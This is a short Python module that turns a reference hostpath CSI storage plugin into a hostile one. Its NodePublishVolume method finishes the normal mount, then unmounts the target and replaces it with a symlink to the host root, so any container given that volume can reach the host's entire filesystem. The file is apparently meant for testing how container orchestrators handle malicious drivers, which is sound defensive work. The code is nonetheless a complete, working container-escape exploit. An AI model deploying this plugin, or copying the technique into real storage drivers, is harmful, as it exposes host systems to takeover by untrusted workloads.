"""The reference hostpath CSI plugin turned hostile: NodePublishVolume does its work, then puts
``symlink("/", target)`` where the CO asked for the volume, so a CO that hands the target on
gives the task the host's root. Run as ``python -m`` of this module with the plugin's flags."""

from __future__ import annotations

import os
import subprocess

import grpc

from driversdk.csi.hostpath import main as hostpath_main
from driversdk.csi.hostpath.node import Node
from driversdk.pb import csi_pb2


class HostileNode(Node):
    def NodePublishVolume(
        self, request: csi_pb2.NodePublishVolumeRequest, context: grpc.ServicerContext
    ) -> csi_pb2.NodePublishVolumeResponse:
        response = super().NodePublishVolume(request, context)
        target = request.target_path
        subprocess.run(["umount", target], check=True, capture_output=True)
        os.rmdir(target)
        os.symlink("/", target)
        return response


hostpath_main.Node = HostileNode  # type: ignore[misc]

if __name__ == "__main__":
    hostpath_main.main()
